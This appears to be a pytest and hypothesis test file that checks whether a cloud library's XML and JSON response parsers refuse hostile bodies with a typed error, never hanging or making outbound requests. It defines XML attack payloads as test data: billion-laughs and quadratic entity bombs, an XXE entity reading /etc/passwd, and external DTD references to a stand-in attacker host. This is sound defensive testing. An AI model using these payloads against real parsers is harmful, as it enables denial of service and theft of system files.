"""Response parsers and error policies fed malformed and hostile payloads (hypothesis + a fixed hostile set).

Whatever a server (or a man in the middle of a plain-HTTP endpoint) answers, a parser either returns or
raises :class:`~asynccloud.errors.ProviderError`; never another exception, never a hang (hypothesis
deadline; ``anyio.fail_after`` for driver calls) and never an outbound request (respx has one route per
test; everything else would fail the test). Error policies (``map_error``) *return* an error for any status
and body. The read verbs of the JSON drivers (OpenStack, Rackspace) get the same bodies as successful
answers, through the harness of ``tests/test_hostile_answers.py``. The figures in ``docs/reliability.md``
("Parser fuzzing") come from this file.
"""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import anyio
import httpx
import pytest
import respx
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from asynccloud import ConfigurationError, ProviderError, RetryPolicy
from asynccloud.auth.keystone._access import parse_v2_access, parse_v3_token
from asynccloud.drivers.aws import Route53DNSDriver, S3StorageDriver, _route53_xml, _s3_xml
from asynccloud.drivers.aws import _query as query
from asynccloud.drivers.aws.ec2 import EC2NodeDriver
from asynccloud.drivers.openstack import SwiftStorageDriver
from asynccloud.drivers.openstack.designate import DesignateDNSDriver
from asynccloud.drivers.openstack.nova import OpenStackNodeDriver
from asynccloud.drivers.rackspace.dns import RackspaceDNSDriver
from asynccloud.models import Container
from tests.test_hostile_answers import API_KEY, RACKSPACE_TOKENS, VERBS, answer

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from asynccloud._http import ErrorPolicy

NOW = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)
FAST = RetryPolicy(max_attempts=1)
KEYSTONE = "https://keystone.example.test:5000/v3"

# ------------------------------------------------------------------------------------------ payloads

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ListBucketResult><Name>&lol9;</Name><Code>&lol9;</Code></ListBucketResult>"""
#: The same bomb in UTF-16: no ASCII "<!DOCTYPE" in the bytes, so a byte search for it finds nothing.
BILLION_LAUGHS_UTF16 = (
    BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"').decode().encode("utf-16")
)
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Error><Code>&xxe;</Code><Message>&xxe;</Message></Error>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Error SYSTEM "http://attacker.example.test/evil.dtd"><Error><Code>x</Code></Error>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example.test/p.dtd"> %p;]><Error/>"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]><Error><Code>'
    + b"&a;" * 2_000 + b"</Code></Error>"
)  # fmt: skip
DEEP_XML = b"<a>" * 50_000 + b"</a>" * 50_000
HUGE_NUMBER = b"9" * 20_000
HUGE_NUMBERS_XML = (
    b'<ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><IsTruncated>false</IsTruncated>'
    b"<KeyCount>" + HUGE_NUMBER + b"</KeyCount><Contents><Key>k</Key><Size>" + HUGE_NUMBER + b"</Size>"
    b"<LastModified>99999-99-99T99:99:99Z</LastModified><ETag>x</ETag></Contents></ListBucketResult>"
)
WRONG_TYPES_XML = (
    b'<ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><IsTruncated>maybe</IsTruncated>'
    b"<Contents><Key></Key><Size>-5</Size><LastModified>yesterday</LastModified></Contents>"
    b"<Contents><Size>1.5e3</Size></Contents><Contents/></ListBucketResult>"
)
DEEP_JSON = b"[" * 100_000 + b"]" * 100_000
#: JSON bodies no parser can read, or of the wrong shape for every document read here (→ ProviderError).
UNREADABLE_JSON = [
    DEEP_JSON,
    HUGE_NUMBER,
    b'{"token": ' + HUGE_NUMBER + b"}",
    b'{"error": {"message": {"deep": [1, 2]}, "code": {}}}',
    b'{"badRequest": null, "itemNotFound": [1]}',
    b"NaN",
    b'{"a": Infinity}',
    b"\xff\xfe\x00{",
    b"<html>502</html>",
    b'[{"name": "a", "bytes": ' + HUGE_NUMBER + b"}]",  # Python refuses ints over 4,300 digits
]
#: Well-formed listings with hostile entries: a driver may skip the entries or refuse the page.
ODD_LISTINGS = [
    b'[{"name": 5, "bytes": "many", "hash": [], "last_modified": {}}]',
    b'[{"name": "a", "bytes": "1e400", "last_modified": "99999-99-99"}]',
    b'[{"subdir": 7}, null, 3, "x"]',
    b"[]",
    b"",
]
HOSTILE_JSON = UNREADABLE_JSON + ODD_LISTINGS
HOSTILE_XML = [
    BILLION_LAUGHS,
    BILLION_LAUGHS_UTF16,
    EXTERNAL_ENTITY,
    EXTERNAL_DTD,
    PARAMETER_ENTITY,
    QUADRATIC_BLOWUP,
    DEEP_XML,
    HUGE_NUMBERS_XML,
    WRONG_TYPES_XML,
    HUGE_NUMBER,
    b"<Error><Code>unterminated",
    b"\x00\x01\x02\xff",
    b"",
    b"<html><body>502 Bad Gateway</body></html>",
]
HOSTILE = HOSTILE_XML + HOSTILE_JSON

# Random XML-ish text: fragments of the documents the parsers read, shuffled and repeated.
_FRAGMENTS = [
    "<ListBucketResult>", "</ListBucketResult>", "<Contents>", "</Contents>", "<Key>", "</Key>", "<Size>",
    "</Size>", "<IsTruncated>", "</IsTruncated>", "true", "-1", "99999999999999999999", "<Error>", "</Error>",
    "<Code>", "</Code>", "<Message>", "</Message>", "<Errors>", "<Response>", "<HostedZone>", "<Id>",
    "</Id>", "<Name>", "</Name>", "<ResourceRecordSet>", "<Type>", "A", "<TTL>", "</TTL>", "&amp;", "&lol;",
    "<![CDATA[x]]>", "<?pi?>", "<!-- c -->", "<!DOCTYPE x>", "\x00", "é", " xmlns='urn:x'", ">", "<",
]  # fmt: skip
xmlish = st.lists(st.sampled_from(_FRAGMENTS), max_size=40).map(lambda parts: "".join(parts).encode())
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=10), inner, max_size=5),
    max_leaves=30,
)
json_bodies = json_values.map(lambda v: json.dumps(v).encode())
bodies = st.one_of(st.binary(max_size=400), xmlish, json_bodies, st.sampled_from(HOSTILE))

FUZZ = settings(
    max_examples=60, deadline=2000, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)


def returns_or_provider_error(parse: Callable[[bytes], object], body: bytes) -> str:
    """Call ``parse(body)``; any exception but ProviderError fails the test. Returns how it was answered."""
    try:
        parse(body)
    except ProviderError:
        return "ProviderError"
    return "parsed"


# ------------------------------------------------------------------------------------------ pure parsers

XML_PARSERS: dict[str, Callable[[bytes], object]] = {
    "s3.parse": _s3_xml.parse,
    "s3.parse_error": _s3_xml.parse_error,
    "s3.list_buckets": _s3_xml.parse_list_buckets,
    "s3.list_objects_v2": _s3_xml.parse_list_objects_v2,
    "s3.initiate_multipart": _s3_xml.parse_initiate_multipart,
    "s3.complete_multipart": _s3_xml.parse_complete_multipart,
    "s3.list_multipart_uploads": _s3_xml.parse_list_multipart_uploads,
    "query.parse_xml": query.parse_xml,
    "query.parse_error": query.parse_error,
    "route53.parse_error": _route53_xml.parse_error,
    "route53.list_hosted_zones": _route53_xml.parse_list_hosted_zones,
    "route53.hosted_zone": _route53_xml.parse_hosted_zone,
    "route53.change_info": _route53_xml.parse_change_info,
    "route53.list_record_sets": _route53_xml.parse_list_record_sets,
}


def _keystone_v3(body: bytes) -> object:
    response = httpx.Response(201, headers={"X-Subject-Token": "tok"}, content=body)
    return parse_v3_token(response, NOW, "openstack")


def _keystone_v2(body: bytes) -> object:
    return parse_v2_access(httpx.Response(200, content=body), NOW, "openstack")


JSON_PARSERS: dict[str, Callable[[bytes], object]] = {
    "keystone.v3_token": _keystone_v3,
    "keystone.v2_access": _keystone_v2,
}
PARSERS = {**XML_PARSERS, **JSON_PARSERS}


@pytest.mark.parametrize("body", HOSTILE, ids=[f"hostile{i}" for i in range(len(HOSTILE))])
@pytest.mark.parametrize("name", sorted(PARSERS))
def test_hostile_payloads_are_refused_or_parsed(name: str, body: bytes) -> None:
    began = time.monotonic()
    returns_or_provider_error(PARSERS[name], body)
    assert time.monotonic() - began < 5.0, f"{name} took too long"  # synchronous: a hang shows as time


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC_BLOWUP]
)
@pytest.mark.parametrize("name", sorted(XML_PARSERS))
def test_entity_and_dtd_payloads_are_provider_errors(name: str, body: bytes) -> None:
    # Never "parsed": an expanded entity (or a fetched DTD) must not reach any field.
    assert returns_or_provider_error(XML_PARSERS[name], body) == "ProviderError" or name.endswith(
        "parse_error"
    )


@FUZZ
@given(body=bodies)
def test_parsers_never_raise_anything_but_provider_error(body: bytes) -> None:
    for parse in PARSERS.values():
        returns_or_provider_error(parse, body)


# ------------------------------------------------------------------------------------------ error policies


def _policies() -> dict[str, ErrorPolicy]:
    drivers: dict[str, Any] = {
        "s3": S3StorageDriver("AKID", "secret", endpoint="https://s3.example.test", region="us-east-1"),
        "ec2(query)": EC2NodeDriver(
            "AKID", "secret", endpoint="https://ec2.example.test", region="us-east-1"
        ),
        "route53": Route53DNSDriver("AKID", "secret", endpoint="https://route53.example.test"),
        "swift": SwiftStorageDriver("u", "p", auth_url=KEYSTONE),
        "nova": OpenStackNodeDriver("u", "p", auth_url=KEYSTONE),
        "designate": DesignateDNSDriver("u", "p", auth_url=KEYSTONE),
        "rackspace_dns": RackspaceDNSDriver("u", "key"),
    }
    return {name: driver._http.error_policy for name, driver in drivers.items()}


POLICIES = _policies()
URLS = [
    "https://s3.example.test/bucket/key",
    "https://swift.example.test/v1/AUTH_x/box/obj",
    "https://api.example.test/v2/zones/z1/recordsets/r1",
]
headers = st.dictionaries(
    st.sampled_from(
        ["Retry-After", "x-amz-retry-after", "Content-Type", "x-amz-request-id", "X-Openstack-Request-Id"]
    ),
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=30),
    max_size=4,
)


@FUZZ
@given(status=st.integers(400, 599), body=bodies, extra=headers, url=st.sampled_from(URLS))
def test_error_policies_map_any_answer_to_a_provider_error(
    status: int, body: bytes, extra: dict[str, str], url: str
) -> None:
    for name, policy in POLICIES.items():
        response = httpx.Response(status, headers=extra, content=body, request=httpx.Request("GET", url))
        error = policy.map_error(response)
        assert isinstance(error, ProviderError), name
        assert error.status in (status, None), name
        retry_after = policy.retry_after(response)
        assert retry_after is None or retry_after >= 0, name
        str(error), repr(error)  # rendering never fails


@pytest.mark.parametrize("body", HOSTILE, ids=[f"hostile{i}" for i in range(len(HOSTILE))])
@pytest.mark.parametrize("name", sorted(POLICIES))
def test_error_policies_map_hostile_bodies(name: str, body: bytes) -> None:
    request = httpx.Request("GET", URLS[0])
    for status in (400, 404, 409, 429, 503):
        error = POLICIES[name].map_error(httpx.Response(status, content=body, request=request))
        assert isinstance(error, ProviderError)
        assert "lollol" not in str(error)  # no entity was expanded into the message


# ------------------------------------------------------------------------------------------ full driver calls


@pytest.fixture
def router() -> Iterator[respx.MockRouter]:
    with respx.mock(assert_all_called=False, assert_all_mocked=True) as mock:
        yield mock


@pytest.mark.anyio
@pytest.mark.parametrize("body", HOSTILE_XML, ids=[f"hostile{i}" for i in range(len(HOSTILE_XML))])
async def test_s3_listing_with_a_hostile_body_is_a_provider_error(
    router: respx.MockRouter, body: bytes
) -> None:
    route = router.get("https://s3.example.test/bucket").respond(200, content=body)
    with anyio.fail_after(10):
        async with S3StorageDriver(
            "AKID", "secret", endpoint="https://s3.example.test", region="us-east-1", retry=FAST
        ) as s3:
            with pytest.raises(ProviderError):
                await s3.list_container_objects(Container(name="bucket"))
    assert route.call_count == 1  # answered once, nothing else sent (respx refuses unmocked requests)


@pytest.mark.anyio
@pytest.mark.parametrize("status", [403, 500])
async def test_s3_error_with_a_billion_laughs_body_is_a_provider_error(
    router: respx.MockRouter, status: int
) -> None:
    router.get("https://s3.example.test/bucket").respond(status, content=BILLION_LAUGHS)
    with anyio.fail_after(10):
        async with S3StorageDriver(
            "AKID", "secret", endpoint="https://s3.example.test", region="us-east-1", retry=FAST
        ) as s3:
            with pytest.raises(ProviderError) as caught:
                await s3.list_container_objects(Container(name="bucket"))
    assert caught.value.status == status
    assert "lollol" not in str(caught.value)


SWIFT = "https://swift.example.test/v1/AUTH_demo"


@pytest.mark.anyio
@pytest.mark.parametrize("body", HOSTILE_JSON, ids=[f"hostile{i}" for i in range(len(HOSTILE_JSON))])
async def test_swift_listing_with_a_hostile_body_is_a_provider_error(
    router: respx.MockRouter, body: bytes
) -> None:
    route = router.get(url__startswith=f"{SWIFT}/box").respond(
        200, content=body, headers={"Content-Type": "application/json"}
    )
    with anyio.fail_after(10):
        async with SwiftStorageDriver("u", "p", token="tok", endpoint=SWIFT, retry=FAST) as swift:
            if body in UNREADABLE_JSON:
                with pytest.raises(ProviderError, match="not a JSON list"):
                    await swift.list_container_objects(Container(name="box"))
            else:
                # Well-formed entries list; an entry without a name is refused (never silently dropped).
                outcome: object
                try:
                    outcome = await swift.list_container_objects(Container(name="box"))
                except ProviderError as exc:
                    outcome = exc
                if isinstance(outcome, ProviderError):
                    assert outcome.code == "MalformedListing"
                else:
                    assert isinstance(outcome, list)
                    assert all(isinstance(o.name, str) and o.size >= 0 for o in outcome)
    assert route.call_count == 1


@pytest.mark.anyio
@pytest.mark.parametrize("body", UNREADABLE_JSON, ids=[f"hostile{i}" for i in range(len(UNREADABLE_JSON))])
async def test_keystone_token_with_a_hostile_body_is_a_provider_error(
    router: respx.MockRouter, body: bytes
) -> None:
    tokens = router.post(f"{KEYSTONE}/auth/tokens").respond(
        201, content=body, headers={"X-Subject-Token": "t"}
    )
    with anyio.fail_after(10):
        async with SwiftStorageDriver("u", "p", auth_url=KEYSTONE, retry=FAST) as swift:
            with pytest.raises(ProviderError):
                await swift.get_container("box")
    assert tokens.call_count == 1


# ------------------------------------------------------------------------------------------ JSON drivers

DRIVER_FUZZ = settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)


@pytest.mark.anyio
@DRIVER_FUZZ
@given(body=bodies, index=st.integers(0, len(VERBS) - 1))
async def test_json_driver_verbs_answer_any_body_with_a_result_or_a_provider_error(
    body: bytes, index: int
) -> None:
    # Every read verb of Nova, Glance, Cinder, Designate, Octavia, Swift and the Rackspace drivers, with one
    # attempt per request: the service's every answer is ``body`` (status 200).
    verb = VERBS[index]
    with anyio.fail_after(10):
        outcome, calls = await answer(verb, body)
    assert isinstance(outcome, ProviderError | list | tuple) or hasattr(outcome, "model_dump"), verb.name
    assert calls <= 2  # the answer, and at most one page link it could still read


@pytest.mark.anyio
@DRIVER_FUZZ
@given(body=bodies, v3=st.booleans())
async def test_identity_answers_of_any_body_are_typed_errors(body: bytes, v3: bool) -> None:
    with respx.mock(assert_all_called=False, assert_all_mocked=True) as mock:
        driver: SwiftStorageDriver | RackspaceDNSDriver
        if v3:
            tokens = mock.post(f"{KEYSTONE}/auth/tokens").respond(
                201, content=body, headers={"X-Subject-Token": "t"}
            )
            driver = SwiftStorageDriver("u", "p", auth_url=KEYSTONE, retry=FAST)
        else:
            tokens = mock.post(RACKSPACE_TOKENS).respond(200, content=body)
            driver = RackspaceDNSDriver("demoauthor", API_KEY, retry=FAST)
        async with driver:
            # ConfigurationError: a readable token whose catalog has no endpoint for the driver.
            with anyio.fail_after(10), pytest.raises((ProviderError, ConfigurationError)):
                await (
                    driver.get_container("box")
                    if isinstance(driver, SwiftStorageDriver)
                    else driver.list_zones()
                )
        assert tokens.call_count == 1
